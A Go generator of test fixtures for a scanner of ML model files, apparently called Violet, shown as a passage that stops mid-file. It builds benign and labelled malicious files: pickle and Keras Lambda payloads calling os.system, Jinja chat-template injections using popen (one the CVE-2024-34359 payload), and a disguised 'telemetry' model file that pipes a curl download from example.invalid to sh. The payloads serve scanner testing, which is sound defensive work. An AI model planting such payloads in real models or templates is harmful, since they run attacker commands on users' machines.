// Command formats writes testdata/formats: benign, malicious and suspicious
// files of every format Violet analyzes besides the pickle family and ONNX
// (whose fixtures, made by the real libraries, are in testdata/models), and
// testdata/formats/expected.tsv, which labels each of them.
//
// Run it from the repository root:
//
//	go run ./testdata/gen/formats
//
// It rewrites testdata/formats, except the folders named keras-h5 (at any
// depth) and their rows of expected.tsv, which are made elsewhere. The
// output is deterministic: no clock, no randomness, fixed zip times.
//
// No file is made by the real libraries (Debian ships no TensorFlow, Keras,
// safetensors or GGUF tooling): the builders below follow the formats'
// specifications and the builders of the analyzers' tests. The one
// exception is the model.weights.h5 member of the .keras files, written
// once by h5py (make_weights_h5.py) and embedded here.
package main

import (
	"archive/zip"
	"bytes"
	_ "embed"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io/fs"
	"log"
	"math"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

// root is the output folder, relative to the repository root.
const root = "testdata/formats"

// templates is where the real chat templates of model families and the
// template attacks are kept.
const templates = "analyzer/template/testdata"

// keepDir is the folder name, at any depth, that the generator leaves alone.
const keepDir = "keras-h5"

// row is one line of expected.tsv.
type row struct{ path, label, note string }

var rows []row

// put writes data to root/rel and records its row (when label is set).
func put(rel string, data []byte, label, note string) {
	path := filepath.Join(root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		log.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		log.Fatal(err)
	}
	if len(data) >= 50<<10 {
		log.Fatalf("%s is %d bytes: fixtures stay under 50 KB", rel, len(data))
	}
	if label != "" {
		rows = append(rows, row{rel, label, note})
	}
}

// label records a row for a folder: the folder is scanned as a whole.
func label(rel, label, note string) { rows = append(rows, row{rel, label, note}) }

// readTemplate reads a chat template of the template analyzer's test data.
func readTemplate(name string) string {
	b, err := os.ReadFile(filepath.Join(templates, name))
	if err != nil {
		log.Fatal(err)
	}
	return string(b)
}

func main() {
	log.SetFlags(0)
	if _, err := os.Stat("go.mod"); err != nil {
		log.Fatal("run from the repository root: go run ./testdata/gen/formats")
	}
	kept := clean()
	benign()
	malicious()
	suspicious()
	writeExpected(kept)
	put("README.md", []byte(readme), "", "")
}

// clean removes everything under root but the keras-h5 folders, and
// returns the rows of expected.tsv that belong to them.
func clean() []row {
	var kept []row
	if b, err := os.ReadFile(filepath.Join(root, "expected.tsv")); err == nil {
		for i, line := range strings.Split(string(b), "\n") {
			cols := strings.SplitN(line, "\t", 3)
			if i == 0 || len(cols) < 2 || !inKept(cols[0]) {
				continue
			}
			cols = append(cols, "")
			kept = append(kept, row{cols[0], cols[1], cols[2]})
		}
	}
	var dirs []string
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			if os.IsNotExist(err) && path == root {
				return filepath.SkipAll
			}
			return err
		}
		if d.IsDir() {
			if d.Name() == keepDir {
				return filepath.SkipDir
			}
			dirs = append(dirs, path)
			return nil
		}
		return os.Remove(path)
	})
	if err != nil {
		log.Fatal(err)
	}
	for i := len(dirs) - 1; i >= 0; i-- {
		os.Remove(dirs[i]) // fails, harmlessly, for folders that hold keras-h5
	}
	return kept
}

func inKept(rel string) bool {
	for _, part := range strings.Split(rel, "/") {
		if part == keepDir {
			return true
		}
	}
	return false
}

func writeExpected(kept []row) {
	all := append(append([]row{}, rows...), kept...)
	sort.Slice(all, func(i, j int) bool { return all[i].path < all[j].path })
	var b strings.Builder
	b.WriteString("path\tlabel\tnote\n")
	for i, r := range all {
		if i > 0 && all[i-1].path == r.path {
			log.Fatalf("two rows for %s", r.path)
		}
		if strings.ContainsAny(r.note, "\t\n") {
			log.Fatalf("the note of %s holds a tab or a newline", r.path)
		}
		fmt.Fprintf(&b, "%s\t%s\t%s\n", r.path, r.label, r.note)
	}
	put("expected.tsv", []byte(b.String()), "", "")
}

// ---------------------------------------------------------------------------
// Benign files.

func benign() {
	hfRepo()
	for _, t := range []struct{ dir, template, note string }{
		{"chatml", "chatml.jinja", "tokenizer_config.json of a ChatML model (Qwen2 style) with its chat template"},
		{"mistral", "mistral_v0_3.jinja", "tokenizer_config.json of Mistral 7B Instruct v0.3 with its tool-calling chat template"},
		{"gemma", "gemma.jinja", "tokenizer_config.json of Gemma 7B it with its chat template"},
	} {
		put("benign/tokenizers/"+t.dir+"/tokenizer_config.json", tokenizerConfig(t.dir, readTemplate("benign/"+t.template)), "benign", t.note)
	}

	put("benign/gguf/llama_chatml_v3.gguf", ggufModel(3, "llama", readTemplate("benign/chatml.jinja")), "benign",
		"GGUF v3, general.architecture llama, tokenizer.chat_template ChatML, F32/F16/Q8_0 tensors aligned to 32")
	put("benign/gguf/gemma_v3.gguf", ggufModel(3, "gemma", readTemplate("benign/gemma.jinja")), "benign",
		"GGUF v3, general.architecture gemma, tokenizer.chat_template Gemma, F32/F16/Q8_0 tensors aligned to 32")
	put("benign/gguf/plain_v2.gguf", ggufModel(2, "llama", ""), "benign", "GGUF v2 (64-bit counts), llama, no chat template")
	put("benign/gguf/plain_v1.gguf", ggufModel(1, "llama", ""), "benign", "GGUF v1 (32-bit counts and lengths), llama, no chat template")

	put("benign/keras/dense.keras", kerasFile(sequential(dense("dense", 8, "relu", 4), dense("dense_1", 1, "linear", 8))), "benign",
		"Keras 3 .keras zip: metadata.json, config.json (Sequential of two Dense layers, Adam, MSE), model.weights.h5 written by h5py")

	put("benign/tensorflow/plain_math/saved_model.pb", savedModel(plainGraph(nil, nil), "2.15.0"), "benign",
		"SavedModel of a Dense(8, relu) layer: Placeholder, VarHandleOp, StatefulPartitionedCall into a serving function (ReadVariableOp MatMul Add Relu Identity) and the saver functions (SaveV2 RestoreV2 MergeV2Checkpoints)")
	put("benign/tensorflow/plain_math/fingerprint.pb", fingerprint(), "benign", "SavedModel fingerprint.pb (FingerprintDef)")
	put("benign/tensorflow/frozen_graph.pb", frozenGraph(nil), "benign", "frozen GraphDef: Placeholder, Const weights, MatMul, Add, Relu, Identity")

	put("benign/tflite/model.tflite", tfliteModel(false), "benign", "TFLite v3 model: FULLY_CONNECTED (fused RELU), FULLY_CONNECTED, SOFTMAX builtin operators, min_runtime_version metadata")
	put("benign/flax/flax_model.msgpack", flaxModel(nil), "benign",
		"flax.serialization.to_bytes of {params: {Dense_0: {bias, kernel}, Dense_1: {bias, kernel}}}: ext 1 ndarrays of float32")
}

// ---------------------------------------------------------------------------
// Malicious files.

// lambdaCode is the bytecode of a Lambda layer's function, as Keras 3
// serializes it (python_utils.func_dump: base64 with a newline every 76
// characters). It was made once, with CPython 3.11.2 (3.11.7 gives the
// same bytes), by
//
//	python3 -c "import marshal, codecs; print(repr(codecs.encode(marshal.dumps((lambda x: __import__('os').system('id') or x).__code__), 'base64').decode('ascii')))"
//
// which compiles the lambda but never runs it.
const lambdaCode = "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACg\n" +
	"AQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3PaAmlkKQLa\n" +
	"Cl9faW1wb3J0X1/aBnN5c3RlbSkB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCAAAAAEA\n" +
	"AABzJAAAAIAAzSrQVVnRSlrUSlrXSmHSSmHQYmbRSmfUSmfQSmzQa2yAAPMAAAAA\n"

// posixSystem is a pickle (protocol 2) that calls posix.system("id"),
// written opcode by opcode.
const posixSystem = "\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."

func malicious() {
	put("malicious/safetensors/pickle_named.safetensors", []byte(posixSystem), "malicious",
		"a protocol 2 pickle calling posix.system('id'), named .safetensors")

	put("malicious/gguf/template_injection.gguf", ggufModel(3, "llama", readTemplate("malicious/cve_2024_34359.jinja")), "malicious",
		"GGUF v3 whose tokenizer.chat_template is the CVE-2024-34359 payload: {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")

	injected := strings.Replace(readTemplate("benign/chatml.jinja"), "{% if add_generation_prompt %}",
		"{% if messages|length > 64 %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endif %}{% if add_generation_prompt %}", 1)
	put("malicious/tokenizers/injected/tokenizer_config.json", tokenizerConfig("chatml", injected), "malicious",
		"ChatML tokenizer_config.json whose chat_template hides, in a branch taken only for long chats, cycler.__init__.__globals__.os.popen('id').read()")

	lipsum := strings.Replace(readTemplate("benign/chatml.jinja"), "{% endfor %}",
		"{% if message['content'] == 'debug' %}{{ lipsum.__globals__['os'].popen(message['role']).read() }}{% endif %}{% endfor %}", 1)
	put("malicious/chat-template/chat_template.jinja", []byte(lipsum), "malicious",
		"ChatML chat_template.jinja that runs a command through lipsum.__globals__['os'].popen(message['role']).read() when a message says debug")

	lambda := `{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "trainable": true, ` + dtypePolicy + `, ` +
		`"function": {"class_name": "__lambda__", "config": {"code": ` + jsonString(lambdaCode) + `, "defaults": null, "closure": null}}, ` +
		`"arguments": {}}, "registered_name": null, "build_config": {"input_shape": [null, 8]}}`
	put("malicious/keras/lambda.keras", kerasFile(sequential(dense("dense", 8, "relu", 4), lambda, dense("dense_1", 1, "linear", 8))), "malicious",
		"Keras 3 Sequential with a Lambda layer whose function is marshaled CPython 3.11 bytecode of lambda x: __import__('os').system('id') or x; evidence: lambda <lambda> (<string>:1) names __import__, system; strings 'os', 'id'")

	osLayer := `{"module": "os", "class_name": "system", "config": {"name": "id", "trainable": true}, "registered_name": null}`
	put("malicious/keras/os_module.keras", kerasFile(sequential(dense("dense", 8, "relu", 4), osLayer)), "malicious",
		"Keras 3 config.json with a layer whose module is os and class_name system (CVE-2025-1550 style: Keras imports the module the config names); evidence: os.system")

	readFile := plainGraph([][]byte{
		nodeDef("ReadFile", "ReadFile", nil, "filename"),
		nodeDef("WriteFile", "WriteFile", nil, "filename_1", "ReadFile"),
	}, []string{"filename", "filename_1"})
	put("malicious/tensorflow/readfile/saved_model.pb", savedModel(readFile, "2.15.0"), "malicious",
		"SavedModel whose serving function reads a file and writes it elsewhere (ReadFile: ReadFile, WriteFile: WriteFile)")
	put("malicious/tensorflow/pyfunc_frozen.pb", frozenGraph([][]byte{
		nodeDef("PyFunc", "PyFunc", []attr{
			{"token", pb(2, "pyfunc_0")},
			{"Tin", pb(1, pb(6, []byte{1}))},
			{"Tout", pb(1, pb(6, []byte{1}))},
		}, "dense/Relu"),
	}), "malicious", "frozen GraphDef with a PyFunc node (PyFunc: PyFunc): running the graph calls a Python function of the process")

	put("malicious/hf-remote-code/config.json", []byte(remoteConfig), "", "")
	put("malicious/hf-remote-code/configuration_x.py", []byte(configurationX), "", "")
	put("malicious/hf-remote-code/modeling_x.py", []byte(modelingX), "", "")
	label("malicious/hf-remote-code", "malicious",
		"model folder whose config.json auto_map needs trust_remote_code (AutoConfig: configuration_x.XConfig; AutoModelForCausalLM: modeling_x.XForCausalLM); "+
			"modeling_x.py imports os and subprocess and calls os.system: modeling_x.py:8: import os | modeling_x.py:9: import subprocess")
}

// ---------------------------------------------------------------------------
// Suspicious files: findings of medium severity, the scan passes.

func suspicious() {
	put("suspicious/tflite/custom_op.tflite", tfliteModel(true), "suspicious",
		"TFLite detection head with the custom operator TFLite_Detection_PostProcess, whose kernel the application registers")
	put("suspicious/flax/extension.msgpack", flaxModel([]byte("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b")), "suspicious",
		"Flax checkpoint holding a value of msgpack extension type 42, which Flax does not write: ext 42 at opt_state")

	overlap := safetensorsFile(`{"__metadata__":{"format":"pt"},"a.weight":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},"b.weight":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}`,
		f32s(1, 2, 3, 4))
	put("suspicious/safetensors/overlap.safetensors", overlap, "suspicious",
		"safetensors header whose tensor b.weight overlaps a.weight (bytes 8 to 16); the reference loader refuses it; SAFETENSORS-LAYOUT (no evidence string)")
	put("suspicious/gguf/misaligned.gguf", ggufMisaligned(), "suspicious",
		"GGUF v3 whose tensor output_norm.weight sits at offset 12, not aligned to 32 bytes; GGUF-LAYOUT (no evidence string)")

	custom := plainGraph([][]byte{nodeDef("resampler", "Addons>Resampler", []attr{{"T", pb(6, 1)}}, "dense/Relu", "grid")}, []string{"grid"})
	put("suspicious/tensorflow/unknown_op/saved_model.pb", savedModel(custom, "2.15.0"), "suspicious",
		"SavedModel using Addons>Resampler, an op of the TensorFlow Addons custom op library (Addons>Resampler: resampler)")

	customLayer := `{"module": "__main__", "class_name": "ScaledDense", "config": {"name": "scaled_dense", "trainable": true, ` + dtypePolicy + `, "units": 1, "scale": 0.5}, ` +
		`"registered_name": "MyLayers>ScaledDense", "build_config": {"input_shape": [null, 8]}}`
	put("suspicious/keras/custom_object.keras", kerasFile(sequential(dense("dense", 8, "relu", 4), customLayer)), "suspicious",
		"Keras 3 Sequential with a custom layer registered by the training script (register_keras_serializable): MyLayers>ScaledDense")
}

// ---------------------------------------------------------------------------
// Hugging Face repository.

func hfRepo() {
	put("benign/hf-repo/config.json", []byte(llamaConfig), "benign", "config.json of a tiny LlamaForCausalLM, no auto_map")
	put("benign/hf-repo/generation_config.json", []byte(generationConfig), "benign", "generation_config.json of Llama 3 Instruct")
	put("benign/hf-repo/special_tokens_map.json", []byte(specialTokensMap), "benign", "special_tokens_map.json of Llama 3")
	put("benign/hf-repo/tokenizer_config.json", tokenizerConfig("llama3", readTemplate("benign/llama3.jinja")), "benign",
		"tokenizer_config.json of Llama 3 Instruct with its chat template")
	put("benign/hf-repo/chat_template.jinja", []byte(readTemplate("benign/chatml.jinja")), "benign", "chat_template.jinja holding the ChatML template")
	put("benign/hf-repo/model.safetensors", llamaWeights(), "benign",
		`safetensors of the tiny Llama's 12 tensors (F16 matrices, F32 norms), metadata {"format":"pt"}, laid out as the reference writer does`)
}

const llamaConfig = `{
  "architectures": [
    "LlamaForCausalLM"
  ],
  "attention_bias": false,
  "attention_dropout": 0.0,
  "bos_token_id": 128000,
  "eos_token_id": 128009,
  "head_dim": 4,
  "hidden_act": "silu",
  "hidden_size": 8,
  "initializer_range": 0.02,
  "intermediate_size": 16,
  "max_position_embeddings": 8192,
  "mlp_bias": false,
  "model_type": "llama",
  "num_attention_heads": 2,
  "num_hidden_layers": 1,
  "num_key_value_heads": 2,
  "pretraining_tp": 1,
  "rms_norm_eps": 1e-05,
  "rope_scaling": null,
  "rope_theta": 500000.0,
  "tie_word_embeddings": false,
  "torch_dtype": "float16",
  "transformers_version": "4.46.0",
  "use_cache": true,
  "vocab_size": 32
}
`

const generationConfig = `{
  "bos_token_id": 128000,
  "do_sample": true,
  "eos_token_id": [
    128001,
    128009
  ],
  "temperature": 0.6,
  "top_p": 0.9,
  "transformers_version": "4.46.0"
}
`

const specialTokensMap = `{
  "bos_token": {
    "content": "<|begin_of_text|>",
    "lstrip": false,
    "normalized": false,
    "rstrip": false,
    "single_word": false
  },
  "eos_token": {
    "content": "<|eot_id|>",
    "lstrip": false,
    "normalized": false,
    "rstrip": false,
    "single_word": false
  }
}
`

// tokenizerFamily holds what a tokenizer_config.json of a family says
// besides its chat template.
type tokenizerFamily struct {
	class, bos, eos, pad, unk string
	added                     [][2]string       // id, content
	extra                     map[string]string // more members, already JSON
}

var families = map[string]tokenizerFamily{
	"llama3": {class: "PreTrainedTokenizerFast", bos: "<|begin_of_text|>", eos: "<|eot_id|>",
		added: [][2]string{{"128000", "<|begin_of_text|>"}, {"128001", "<|end_of_text|>"}, {"128006", "<|start_header_id|>"}, {"128007", "<|end_header_id|>"}, {"128009", "<|eot_id|>"}},
		extra: map[string]string{"model_input_names": "[\n    \"input_ids\",\n    \"attention_mask\"\n  ]", "model_max_length": "131072"}},
	"chatml": {class: "Qwen2Tokenizer", eos: "<|im_end|>", pad: "<|endoftext|>",
		added: [][2]string{{"151643", "<|endoftext|>"}, {"151644", "<|im_start|>"}, {"151645", "<|im_end|>"}},
		extra: map[string]string{"errors": `"replace"`, "model_max_length": "32768", "split_special_tokens": "false"}},
	"mistral": {class: "LlamaTokenizer", bos: "<s>", eos: "</s>", unk: "<unk>",
		added: [][2]string{{"0", "<unk>"}, {"1", "<s>"}, {"2", "</s>"}, {"3", "[INST]"}, {"4", "[/INST]"}, {"5", "[TOOL_CALLS]"}, {"6", "[AVAILABLE_TOOLS]"}, {"7", "[/AVAILABLE_TOOLS]"}, {"8", "[TOOL_RESULTS]"}, {"9", "[/TOOL_RESULTS]"}},
		extra: sentencePiece("false")},
	"gemma": {class: "GemmaTokenizer", bos: "<bos>", eos: "<eos>", pad: "<pad>", unk: "<unk>",
		added: [][2]string{{"0", "<pad>"}, {"1", "<eos>"}, {"2", "<bos>"}, {"3", "<unk>"}, {"106", "<start_of_turn>"}, {"107", "<end_of_turn>"}},
		extra: sentencePiece("null")},
}

// sentencePiece holds the members of the tokenizer_config.json of a
// SentencePiece (LlamaTokenizer, GemmaTokenizer) model.
func sentencePiece(legacy string) map[string]string {
	return map[string]string{"add_bos_token": "true", "add_eos_token": "false", "legacy": legacy,
		"model_max_length": "1000000000000000019884624838656", "sp_model_kwargs": "{}",
		"spaces_between_special_tokens": "false", "use_default_system_prompt": "false"}
}

// tokenizerConfig writes a tokenizer_config.json as transformers saves it
// (json.dumps with indent=2, sort_keys=True, ensure_ascii=False).
func tokenizerConfig(family, template string) []byte {
	f := families[family]
	var b strings.Builder
	b.WriteString("{\n")
	members := map[string]string{}
	var added strings.Builder
	added.WriteString("{\n")
	for i, a := range f.added {
		fmt.Fprintf(&added, "    %s: {\n      \"content\": %s,\n      \"lstrip\": false,\n      \"normalized\": false,\n      \"rstrip\": false,\n      \"single_word\": false,\n      \"special\": true\n    }",
			jsonString(a[0]), jsonString(a[1]))
		if i < len(f.added)-1 {
			added.WriteString(",")
		}
		added.WriteString("\n")
	}
	added.WriteString("  }")
	members["added_tokens_decoder"] = added.String()
	members["chat_template"] = jsonString(template)
	members["clean_up_tokenization_spaces"] = "false"
	members["tokenizer_class"] = jsonString(f.class)
	for k, v := range map[string]string{"bos_token": f.bos, "eos_token": f.eos, "pad_token": f.pad, "unk_token": f.unk} {
		if v == "" {
			members[k] = "null"
		} else {
			members[k] = jsonString(v)
		}
	}
	for k, v := range f.extra {
		members[k] = v
	}
	keys := make([]string, 0, len(members))
	for k := range members {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for i, k := range keys {
		fmt.Fprintf(&b, "  %s: %s", jsonString(k), members[k])
		if i < len(keys)-1 {
			b.WriteString(",")
		}
		b.WriteString("\n")
	}
	b.WriteString("}\n")
	if !json.Valid([]byte(b.String())) {
		log.Fatalf("tokenizer_config.json of %s is not valid JSON", family)
	}
	return []byte(b.String())
}

// jsonString quotes s as Python's json.dumps(ensure_ascii=False) does.
func jsonString(s string) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(s); err != nil {
		log.Fatal(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

const remoteConfig = `{
  "architectures": [
    "XForCausalLM"
  ],
  "auto_map": {
    "AutoConfig": "configuration_x.XConfig",
    "AutoModelForCausalLM": "modeling_x.XForCausalLM"
  },
  "hidden_size": 8,
  "model_type": "x",
  "num_hidden_layers": 1,
  "torch_dtype": "float16",
  "transformers_version": "4.46.0",
  "vocab_size": 32
}
`

const configurationX = `from transformers import PretrainedConfig


class XConfig(PretrainedConfig):
    model_type = "x"

    def __init__(self, vocab_size=32, hidden_size=8, num_hidden_layers=1, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_hidden_layers = num_hidden_layers
        super().__init__(**kwargs)
`

// modelingX imports os and subprocess at lines 8 and 9: expected.tsv
// quotes them.
const modelingX = `"""X model: a tiny causal language model.

Load with AutoModelForCausalLM.from_pretrained(path, trust_remote_code=True).
"""

import math

import os
import subprocess

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_x import XConfig


def _telemetry():
    # Runs when the model is built.
    os.system("curl -s https://example.invalid/x.sh | sh")
    subprocess.Popen(["sh", "-c", "id > /tmp/.x"])


class XForCausalLM(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        _telemetry()
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)

    def forward(self, input_ids, **kwargs):
        h = self.embed(input_ids) / math.sqrt(self.config.hidden_size)
        return self.lm_head(h)
`

// ---------------------------------------------------------------------------
// safetensors.

// safetensorsFile lays out a file as the reference writer does: the
// header length (u64 little-endian), the JSON header padded with spaces to
// a multiple of 8, the data.
func safetensorsFile(header string, data []byte) []byte {
	for len(header)%8 != 0 {
		header += " "
	}
	out := binary.LittleEndian.AppendUint64(nil, uint64(len(header)))
	return append(append(out, header...), data...)
}

// stTensor is a tensor to write.
type stTensor struct {
	name, dtype string
	shape       []int
}

// llamaWeights writes the weights of the tiny Llama of config.json.
func llamaWeights() []byte {
	const h, inter, vocab = 8, 16, 32
	ts := []stTensor{
		{"model.embed_tokens.weight", "F16", []int{vocab, h}},
		{"model.layers.0.self_attn.q_proj.weight", "F16", []int{h, h}},
		{"model.layers.0.self_attn.k_proj.weight", "F16", []int{h, h}},
		{"model.layers.0.self_attn.v_proj.weight", "F16", []int{h, h}},
		{"model.layers.0.self_attn.o_proj.weight", "F16", []int{h, h}},
		{"model.layers.0.mlp.gate_proj.weight", "F16", []int{inter, h}},
		{"model.layers.0.mlp.up_proj.weight", "F16", []int{inter, h}},
		{"model.layers.0.mlp.down_proj.weight", "F16", []int{h, inter}},
		{"model.layers.0.input_layernorm.weight", "F32", []int{h}},
		{"model.layers.0.post_attention_layernorm.weight", "F32", []int{h}},
		{"model.norm.weight", "F32", []int{h}},
		{"lm_head.weight", "F16", []int{vocab, h}},
	}
	size := map[string]int{"F16": 2, "F32": 4}
	// The reference writer orders the data by dtype size, largest first,
	// then by name; the header lists the tensors in that order.
	sort.SliceStable(ts, func(i, j int) bool {
		if size[ts[i].dtype] != size[ts[j].dtype] {
			return size[ts[i].dtype] > size[ts[j].dtype]
		}
		return ts[i].name < ts[j].name
	})
	var header strings.Builder
	header.WriteString(`{"__metadata__":{"format":"pt"}`)
	var data []byte
	rng := lcg(42)
	for _, t := range ts {
		n := 1
		shape := make([]string, len(t.shape))
		for i, d := range t.shape {
			n *= d
			shape[i] = fmt.Sprint(d)
		}
		begin := len(data)
		for range n {
			if t.dtype == "F32" {
				data = binary.LittleEndian.AppendUint32(data, math.Float32bits(1)) // RMSNorm weights start at 1
			} else {
				data = binary.LittleEndian.AppendUint16(data, f16(float32(rng.normal()*0.02)))
			}
		}
		fmt.Fprintf(&header, `,%s:{"dtype":%q,"shape":[%s],"data_offsets":[%d,%d]}`, jsonString(t.name), t.dtype, strings.Join(shape, ","), begin, len(data))
	}
	header.WriteString("}")
	return safetensorsFile(header.String(), data)
}

// lcg is a small deterministic generator of weights.
type lcgState struct{ s uint64 }

func lcg(seed uint64) *lcgState { return &lcgState{seed} }

func (l *lcgState) next() float64 {
	l.s = l.s*6364136223846793005 + 1442695040888963407
	return float64(l.s>>11) / (1 << 53)
}

// normal returns a roughly normal value (sum of uniforms).
func (l *lcgState) normal() float64 {
	s := 0.0
	for range 12 {
		s += l.next()
	}
	return s - 6
}

// f16 converts to IEEE half precision (round to nearest, small values).
func f16(f float32) uint16 {
	b := math.Float32bits(f)
	sign := uint16(b>>16) & 0x8000
	exp := int((b>>23)&0xff) - 127 + 15
	mant := b & 0x7fffff
	switch {
	case exp <= 0:
		if exp < -10 {
			return sign
		}
		mant |= 0x800000
		return sign | uint16(mant>>uint(14-exp))
	case exp >= 31:
		return sign | 0x7c00
	}
	return sign | uint16(exp)<<10 | uint16(mant>>13)
}

func f32s(vs ...float32) []byte {
	var b []byte
	for _, v := range vs {
		b = binary.LittleEndian.AppendUint32(b, math.Float32bits(v))
	}
	return b
}

// ---------------------------------------------------------------------------
// GGUF (llama.cpp's gguf-py writer layout: header, key/values, tensor
// infos, padding to general.alignment, tensor data each padded).

// GGUF value types.
const (
	ggufU32    = 4
	ggufI32    = 5
	ggufF32    = 6
	ggufString = 8
	ggufArray  = 9
)

type ggufWriter struct {
	b       bytes.Buffer
	version uint32
}

func newGGUF(version uint32, nTensors, nKV int) *ggufWriter {
	w := &ggufWriter{version: version}
	w.b.WriteString("GGUF")
	w.u32(version)
	w.count(uint64(nTensors))
	w.count(uint64(nKV))
	return w
}

func (w *ggufWriter) u32(v uint32) { w.b.Write(binary.LittleEndian.AppendUint32(nil, v)) }
func (w *ggufWriter) u64(v uint64) { w.b.Write(binary.LittleEndian.AppendUint64(nil, v)) }

// count writes a count or a length: 32 bits in version 1, 64 after.
func (w *ggufWriter) count(v uint64) {
	if w.version == 1 {
		w.u32(uint32(v))
	} else {
		w.u64(v)
	}
}

func (w *ggufWriter) str(s string) { w.count(uint64(len(s))); w.b.WriteString(s) }

func (w *ggufWriter) kvString(k, v string) { w.str(k); w.u32(ggufString); w.str(v) }
func (w *ggufWriter) kvU32(k string, v uint32) {
	w.str(k)
	w.u32(ggufU32)
	w.u32(v)
}
func (w *ggufWriter) kvF32(k string, v float32) {
	w.str(k)
	w.u32(ggufF32)
	w.u32(math.Float32bits(v))
}

func (w *ggufWriter) kvStrings(k string, vs []string) {
	w.str(k)
	w.u32(ggufArray)
	w.u32(ggufString)
	w.count(uint64(len(vs)))
	for _, v := range vs {
		w.str(v)
	}
}

func (w *ggufWriter) kvArray32(k string, typ uint32, vs []uint32) {
	w.str(k)
	w.u32(ggufArray)
	w.u32(typ)
	w.count(uint64(len(vs)))
	for _, v := range vs {
		w.u32(v)
	}
}

// ggufTensor is a tensor to write: dims in ggml order (fastest first).
type ggufTensor struct {
	name string
	typ  uint32 // 0 F32, 1 F16, 8 Q8_0
	dims []uint64
}

func (t ggufTensor) size() int {
	n := 1
	for _, d := range t.dims {
		n *= int(d)
	}
	switch t.typ {
	case 0:
		return 4 * n
	case 1:
		return 2 * n
	case 8:
		return n / 32 * 34
	}
	log.Fatalf("type %d", t.typ)
	return 0
}

func alignUp(n, a int) int { return (n + a - 1) / a * a }

// ggufModel writes a small model of the architecture arch, with a chat
// template when template is not empty.
func ggufModel(version uint32, arch, template string) []byte {
	tokens := []string{"<unk>", "<s>", "</s>", "▁the", "▁a", "▁model", "▁of", "▁to"}
	if arch == "gemma" {
		tokens = []string{"<pad>", "<eos>", "<bos>", "<unk>", "<start_of_turn>", "<end_of_turn>", "▁the", "▁model"}
	}
	scores := make([]uint32, len(tokens))
	types := make([]uint32, len(tokens))
	for i := range tokens {
		scores[i] = math.Float32bits(-float32(i))
		types[i] = 1 // normal
		if strings.HasPrefix(tokens[i], "<") {
			types[i] = 3 // control
		}
	}
	tensors := []ggufTensor{
		{"token_embd.weight", 1, []uint64{32, uint64(len(tokens))}},
		{"blk.0.attn_norm.weight", 0, []uint64{32}},
		{"blk.0.attn_q.weight", 8, []uint64{32, 32}},
		{"output_norm.weight", 0, []uint64{32}},
	}
	nKV := 14
	if template != "" {
		nKV++
	}
	w := newGGUF(version, len(tensors), nKV)
	w.kvString("general.architecture", arch)
	w.kvString("general.name", "tiny-"+arch)
	w.kvU32("general.file_type", 7) // MOSTLY_Q8_0
	w.kvU32("general.quantization_version", 2)
	w.kvU32(arch+".context_length", 2048)
	w.kvU32(arch+".embedding_length", 32)
	w.kvU32(arch+".block_count", 1)
	w.kvU32(arch+".attention.head_count", 4)
	w.kvF32(arch+".attention.layer_norm_rms_epsilon", 1e-6)
	w.kvString("tokenizer.ggml.model", "llama")
	w.kvStrings("tokenizer.ggml.tokens", tokens)
	w.kvArray32("tokenizer.ggml.scores", ggufF32, scores)
	w.kvArray32("tokenizer.ggml.token_type", ggufI32, types)
	bos := uint32(1)
	if arch == "gemma" {
		bos = 2
	}
	w.kvU32("tokenizer.ggml.bos_token_id", bos)
	if template != "" {
		w.kvString("tokenizer.chat_template", template)
	}
	var data []byte
	rng := lcg(uint64(version) + uint64(len(arch)))
	offset := 0
	for _, t := range tensors {
		w.str(t.name)
		w.u32(uint32(len(t.dims)))
		for _, d := range t.dims {
			w.count(d)
		}
		w.u32(t.typ)
		w.u64(uint64(offset))
		n := t.size()
		for range n {
			data = append(data, byte(rng.next()*256))
		}
		if t.typ == 0 { // norm weights: ones
			copy(data[offset:], bytes.Repeat(f32s(1), n/4))
		}
		offset = alignUp(offset+n, 32)
		for len(data) < offset {
			data = append(data, 0)
		}
	}
	for w.b.Len()%32 != 0 {
		w.b.WriteByte(0)
	}
	return append(w.b.Bytes(), data...)
}

// ggufMisaligned writes a file whose second tensor is not aligned.
func ggufMisaligned() []byte {
	w := newGGUF(3, 2, 2)
	w.kvString("general.architecture", "llama")
	w.kvString("general.name", "misaligned")
	for _, t := range []struct {
		name   string
		n, off uint64
	}{{"token_embd.weight", 3, 0}, {"output_norm.weight", 5, 12}} {
		w.str(t.name)
		w.u32(1)
		w.u64(t.n)
		w.u32(0)
		w.u64(t.off)
	}
	for w.b.Len()%32 != 0 {
		w.b.WriteByte(0)
	}
	return append(w.b.Bytes(), f32s(0.5, -0.5, 0.25, 1, 1, 1, 1, 1)...)
}

// ---------------------------------------------------------------------------
// Keras 3 (.keras: a zip of metadata.json, config.json, model.weights.h5).

//go:embed keras_weights.h5
var kerasWeights []byte

const dtypePolicy = `"dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": null}`

// dense is a Dense layer as Keras 3 serializes it.
